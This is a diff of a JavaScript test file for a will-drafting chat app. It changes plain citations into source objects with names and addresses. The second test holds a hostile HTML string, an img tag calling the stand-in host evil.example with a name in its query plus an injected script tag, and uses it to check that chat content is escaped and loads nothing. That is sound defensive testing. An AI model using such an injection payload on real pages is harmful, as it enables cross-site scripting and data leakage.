@@ -33,7 +33,12 @@ const progress = { answered: 0, total: 4 }
 
 test('the conversation is a file: who said what, who answered, and what became of it', async () => {
   const replies = [
-    reply({ message: 'Two witnesses.', citations: ['s. 732.502'], receipt: guide, progress }),
+    reply({
+      message: 'Two witnesses.',
+      sources: [{ name: 's. 732.502', address: 'https://www.flsenate.gov/Laws/Statutes/2025/732.502' }],
+      receipt: guide,
+      progress,
+    }),
     reply({ message: 'Is that right?', proposals, question: 'fullName', receipt: model, progress }),
   ]
   const server = chatWith(will(), { onChat: () => replies.shift() ?? reply({}) })
@@ -66,7 +71,12 @@ test('the conversation is a file: who said what, who answered, and what became o
 test('nothing that was said becomes an element of the file, and the file loads nothing', async () => {
   const hostile = '<img src="https://evil.example/?q=Maria"></p></main><script>alert(1)</script>'
   chatWith(will({ name: `Will ${hostile}` }), {
-    onChat: () => reply({ message: hostile, citations: [hostile], receipt: { ...model, model: '<b>x</b>' } }),
+    onChat: () =>
+      reply({
+        message: hostile,
+        sources: [{ name: hostile, address: hostile }],
+        receipt: { ...model, model: '<b>x</b>' },
+      }),
   })
   const { user } = renderApp('/chat/7')
   await user.type(await input(), `${hostile}{Enter}`)
